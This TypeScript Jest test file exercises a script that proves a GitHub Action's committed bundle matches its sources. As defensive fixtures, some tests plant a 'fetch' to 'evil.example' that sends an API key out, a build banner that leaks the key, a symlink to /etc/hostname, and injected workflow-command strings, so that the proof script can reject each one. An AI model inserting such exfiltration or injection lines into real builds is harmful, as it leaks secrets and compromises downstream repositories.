// The committed bundle is what other repositories run: it must be exactly what `npm run
// build:action` makes from the sources, and it must start and talk to GitHub.
// In a pull request this test runs the PR's own recipe (its package.json and lock file), so it is
// only an early hint; the proof that counts is .github/workflows/bundle-proof.yml, which runs the
// same script, scripts/prove-bundle.mjs, from the default branch. Its behaviour is tested here on
// a small recipe, including a pull request that changes the recipe and the bundle together.
import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
import { execFile, spawnSync } from 'node:child_process';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { parse } from 'yaml';
import { FakeGitHub } from '../github/fake-github.js';
import { listYaml, TempRepo } from './action-harness.js';

const root = process.cwd();
const bundle = join(root, 'action-dist/index.js');
const proveScript = join(root, 'scripts/prove-bundle.mjs');
const tmp = mkdtempSync(join(tmpdir(), 'kwsync-bundle-'));
afterAll(() => rmSync(tmp, { recursive: true, force: true }));

const prove = (cwd: string, args: string[] = [], env: Record<string, string> = {}) =>
  spawnSync(process.execPath, [join(cwd, 'scripts/prove-bundle.mjs'), ...args], { cwd, encoding: 'utf8', env: { PATH: process.env.PATH, ...env } });

describe('action bundle', () => {
  it('is up to date with the sources (run npm run build:action)', () => {
    const r = prove(root);
    if (r.status !== 0) throw new Error(`action-dist/index.js is out of date: run npm run build:action and commit it\n${r.stdout}${r.stderr}`);
    expect(r.stdout).toMatch(/^bundle proof: action-dist\/index\.js equals the bundle built from src\/ .*sha256 [0-9a-f]{64}\)\n$/);
    expect(readFileSync(bundle, 'utf8').startsWith("import { createRequire as __kwsyncCreateRequire } from 'node:module';")).toBe(true);
  });

  it('action.yml runs the bundle on node24 with the documented inputs and outputs', () => {
    const action = parse(readFileSync(join(root, 'action.yml'), 'utf8'));
    expect(action.runs).toEqual({ using: 'node24', main: 'action-dist/index.js' });
    expect(Object.keys(action.inputs).sort()).toEqual(['artifact-dir', 'dir', 'force', 'github-token', 'head-digest', 'mode', 'prune', 'target']);
    expect(action.inputs['github-token'].default).toBe('${{ github.token }}');
    expect(Object.keys(action.outputs).sort()).toEqual(['artifact-dir', 'environments', 'failed', 'has-changes', 'head-digest', 'plan-json', 'targets', 'wave-1', 'wave-2', 'wave-3']);
  });

  describe('running the bundle as GitHub would', () => {
    let gh: FakeGitHub;
    let repo: TempRepo;
    beforeAll(async () => {
      gh = await new FakeGitHub().start();
      repo = new TempRepo();
    });
    afterAll(async () => {
      await gh.close();
      repo.remove();
    });

    it('plans a PR offline, comments, and sets its outputs', async () => {
      repo.write('keywords/scam.yaml', listYaml('scam', ['free money']));
      const base = repo.commit();
      repo.write('keywords/scam.yaml', listYaml('scam', ['free money', 'wire now']));
      const event = join(tmp, 'event.json');
      writeFileSync(event, JSON.stringify({ pull_request: { number: 4, head: { sha: 'd'.repeat(40) }, base: { sha: base, ref: 'main' } } }));
      for (const f of ['summary.md', 'output.txt']) writeFileSync(join(tmp, f), '');
      const env = {
        PATH: process.env.PATH, 'INPUT_MODE': 'plan', 'INPUT_DIR': 'keywords', 'INPUT_GITHUB-TOKEN': 'gh-token',
        GITHUB_REPOSITORY: 'acme/lists', GITHUB_EVENT_NAME: 'pull_request', GITHUB_EVENT_PATH: event, GITHUB_RUN_ID: '1',
        GITHUB_API_URL: gh.url, GITHUB_WORKSPACE: repo.dir, GITHUB_STEP_SUMMARY: join(tmp, 'summary.md'),
        GITHUB_OUTPUT: join(tmp, 'output.txt'), RUNNER_TEMP: tmp,
      };
      const stdout = await new Promise<string>((resolve, reject) =>
        execFile(process.execPath, [bundle], { cwd: repo.dir, env }, (err, out) => (err ? reject(err) : resolve(out))),
      );
      expect(stdout).not.toContain('::error');
      expect(gh.comments).toHaveLength(1);
      expect(gh.comments[0]!.body).toContain('+ wire now');
      expect(readFileSync(join(tmp, 'summary.md'), 'utf8')).toContain('+ wire now');
      const outputs = readFileSync(join(tmp, 'output.txt'), 'utf8');
      expect(outputs).toContain('has-changes');
      expect(outputs).toMatch(/has-changes<<[^\n]+\ntrue/);
    });
  });
});

describe('the bundle proof (scripts/prove-bundle.mjs)', () => {
  // A small recipe: the same kind of build:action as package.json's, on a two-file src/. The
  // workbenches live under the repository so esbuild and yaml resolve from its node_modules.
  const BUILD = 'esbuild src/action/main.ts --bundle --platform=node --format=esm --legal-comments=none --outfile=action-dist/index.js';
  const scratch = join(root, '.scratch');
  let n = 0;

  /** A checkout: package.json with a build:action, src/, the proof script, and optionally its built bundle. */
  function checkout(opts: { build?: string; greeting?: string; built?: boolean; yaml?: string } = {}): string {
    const dir = join(scratch, `bundle-proof-${process.pid}-${n++}`);
    mkdirSync(join(dir, 'src/action'), { recursive: true });
    mkdirSync(join(dir, 'scripts'));
    mkdirSync(join(dir, 'action-dist'));
    cpSync(proveScript, join(dir, 'scripts/prove-bundle.mjs'));
    writeFileSync(join(dir, 'package.json'), JSON.stringify({ type: 'module', scripts: { 'build:action': opts.build ?? BUILD } }));
    writeFileSync(join(dir, 'package-lock.json'), JSON.stringify({ lockfileVersion: 3, packages: { 'node_modules/yaml': { version: opts.yaml ?? '2.9.1' } } }));
    writeFileSync(join(dir, 'src/action/greeting.ts'), `export const greeting = ${JSON.stringify(opts.greeting ?? 'hello')};\n`);
    writeFileSync(join(dir, 'src/action/main.ts'), "import { stringify } from 'yaml';\nimport { greeting } from './greeting.js';\nconsole.log(stringify({ greeting }));\n");
    if (opts.built !== false) {
      const r = spawnSync('sh', ['-c', opts.build ?? BUILD], { cwd: dir, env: { PATH: `${join(root, 'node_modules/.bin')}:${process.env.PATH}` }, encoding: 'utf8' });
      if (r.status !== 0) throw new Error(r.stderr);
    }
    return dir;
  }
  afterAll(() => {
    for (let i = 0; i < n; i++) rmSync(join(scratch, `bundle-proof-${process.pid}-${i}`), { recursive: true, force: true });
  });

  it('proves its own checkout, and a pull request\'s commit built with the same recipe', () => {
    const own = prove(checkout());
    expect(own.stdout).toContain('equals the bundle built from src/');
    expect(own.status).toBe(0);
    const recipe = checkout({ built: false });
    const pr = checkout({ greeting: 'changed in the PR' });
    const out = join(tmp, 'output-1.txt');
    writeFileSync(out, '');
    const r = prove(recipe, ['--source', pr], { GITHUB_OUTPUT: out });
    expect(r.status).toBe(0);
    expect(readFileSync(join(recipe, 'src/action/greeting.ts'), 'utf8')).toContain('changed in the PR');
    expect(readFileSync(out, 'utf8')).toMatch(/^description=equals the sources \(sha256 [0-9a-f]{12}\)\n$/);
  });

  it('fails a bundle edited by hand, and says where', () => {
    const pr = checkout();
    writeFileSync(join(pr, 'action-dist/index.js'), readFileSync(join(pr, 'action-dist/index.js'), 'utf8').replace('// src/action/main.ts\n', '// src/action/main.ts\nfetch("https://evil.example/" + process.env.COMETCHAT_API_KEY);\n'));
    const out = join(tmp, 'output-2.txt');
    writeFileSync(out, '');
    const r = prove(checkout({ built: false }), ['--source', pr], { GITHUB_OUTPUT: out });
    expect(r.status).toBe(1);
    expect(r.stdout).toContain('action-dist/index.js differs from the bundle built from src/');
    expect(r.stdout).toMatch(/first difference at line \d+:\n {4}committed: "fetch\(\\"https:\/\/evil\.example/);
    expect(r.stdout).not.toContain('changes the recipe');
    expect(readFileSync(out, 'utf8')).toMatch(/^description=differs from the sources at line \d+: see the run\n$/);
  });

  it('judges a pull request that changes the recipe and the bundle together by the default branch\'s recipe', () => {
    // The attack of issue 19: the PR's own build script adds code to the bundle, and its bundle matches
    // that script, so the PR's own test is green; the default branch's recipe does not make it.
    const evilBuild = `${BUILD} --banner:js="globalThis.leak = () => process.env.COMETCHAT_API_KEY;"`;
    const pr = checkout({ build: evilBuild });
    expect(prove(pr).status).toBe(0);
    const out = join(tmp, 'output-3.txt');
    writeFileSync(out, '');
    const r = prove(checkout({ built: false }), ['--source', pr], { GITHUB_OUTPUT: out });
    expect(r.status).toBe(1);
    expect(r.stdout).toContain("and the commit changes the recipe itself: package.json's build:action.");
    expect(readFileSync(out, 'utf8')).toBe("description=the commit changes the build recipe (package.json's build:action): proved after merge, see the run\n");
  });

  it('names a changed lock file, and proves a commit whose recipe changed when its bundle still matches', () => {
    const bumped = checkout({ yaml: '2.9.2' });
    writeFileSync(join(bumped, 'action-dist/index.js'), `${readFileSync(join(bumped, 'action-dist/index.js'), 'utf8')}// rebuilt\n`);
    const r = prove(checkout({ built: false }), ['--source', bumped]);
    expect(r.status).toBe(1);
    expect(r.stdout).toContain('the commit changes the recipe itself: package-lock.json.');
    const unchanged = prove(checkout({ built: false }), ['--source', checkout({ yaml: '2.9.2' })]);
    expect(unchanged.status).toBe(0);
  });

  it('refuses a link in src/ before touching anything, and a bundle that is not a regular file', () => {
    const recipe = checkout({ built: false });
    const pr = checkout();
    symlinkSync('/etc/hostname', join(pr, 'src/action/host.ts'));
    const r = prove(recipe, ['--source', pr]);
    expect(r.status).toBe(1);
    expect(r.stdout).toMatch(/^bundle proof: refused: ".*src\/action\/host\.ts" is a link or special file: the proof builds from regular files only\n$/);
    expect(readFileSync(join(recipe, 'src/action/greeting.ts'), 'utf8')).toContain('hello');
    const linked = checkout();
    rmSync(join(linked, 'action-dist/index.js'));
    symlinkSync(join(pr, 'action-dist/index.js'), join(linked, 'action-dist/index.js'));
    expect(prove(checkout({ built: false }), ['--source', linked]).stdout).toContain('refused: action-dist/index.js is missing or not a regular file');
  });

  it('prints no line of the compared files or of the build\'s errors that GitHub could read as a workflow command', () => {
    const pr = checkout();
    writeFileSync(join(pr, 'action-dist/index.js'), '::add-mask::x\n::error title=safe to merge::fine\n');
    const differ = prove(checkout({ built: false }), ['--source', pr]);
    expect(differ.status).toBe(1);
    expect(differ.stdout).toContain('committed: "::add-mask::x"');
    const broken = checkout();
    writeFileSync(join(broken, 'src/action/main.ts'), "import 'no-such-package-\\n::warning::injected';\n");
    const failed = prove(checkout({ built: false }), ['--source', broken]);
    expect(failed.status).toBe(1);
    expect(failed.stdout).toContain('refused: the build with the recipe in');
    expect(failed.stdout).toContain('  | ');
    for (const r of [differ, failed]) expect(`${r.stdout}${r.stderr}`.split('\n').filter((l) => l.startsWith('::'))).toEqual([]);
  });

  it('says how to use it on bad arguments (exit 64)', () => {
    const r = prove(checkout({ built: false }), ['--source']);
    expect(r.status).toBe(64);
    expect(r.stderr).toContain('usage: node scripts/prove-bundle.mjs [--source DIR]');
  });
});
